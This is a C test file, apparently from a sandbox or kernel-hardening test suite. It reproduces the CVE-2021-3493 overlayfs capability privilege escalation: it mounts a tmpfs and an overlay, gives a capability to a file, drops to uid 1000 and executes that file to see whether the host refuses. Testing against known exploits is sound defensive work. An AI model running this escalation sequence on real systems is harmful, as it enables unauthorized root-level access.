// SPDX-License-Identifier: GPL-2.0-only
// CVE-2021-3493: capabilities of a file, set through an overlay, were stored for
// the user namespace of the host.  Here: more than the guest's bound.
#include "mount/clock.h"
#include "mount/mounts.h"

int main(void)
{
	if (getuid())
		turn_clock();
	own_mounts();
	NEED(!mkdir("/tmp/caps", 0755) || errno == EEXIST);
	NEED(!chmod(POINT, 0755));
	if (mount("t", "/tmp/caps", "tmpfs", 0, NULL))
		refused("tmpfs");
	NEED(!mkdir("/tmp/caps/up", 0755) && !mkdir("/tmp/caps/work", 0755));
	mount_at_point("o", "overlay", "lowerdir=/attack/mount,"
		       "upperdir=/tmp/caps/up,workdir=/tmp/caps/work");
	give_capability(POINT "/overlay_caps");
	NEED(!setgid(1000) && !setuid(1000));
	execl("/tmp/caps/up/overlay_caps", "overlay_caps", NULL);
	refused("exec");
}
